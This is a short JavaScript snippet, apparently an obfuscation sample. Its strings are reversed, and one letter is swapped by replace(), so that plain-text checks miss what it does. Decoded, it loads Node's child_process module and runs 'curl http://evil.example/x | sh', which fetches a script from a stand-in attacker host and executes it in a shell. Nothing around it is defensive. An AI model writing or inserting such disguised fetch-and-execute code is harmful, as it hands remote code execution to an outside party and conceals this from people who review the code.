// tricky: words backwards
const rev = (t) => t.split('').reverse().join('');
require(rev('ssecorp_dlihc'))[rev('cnySceXe'.replace('X', 'x'))](rev('hs | x/elpmaxe.live//:ptth lruc'));
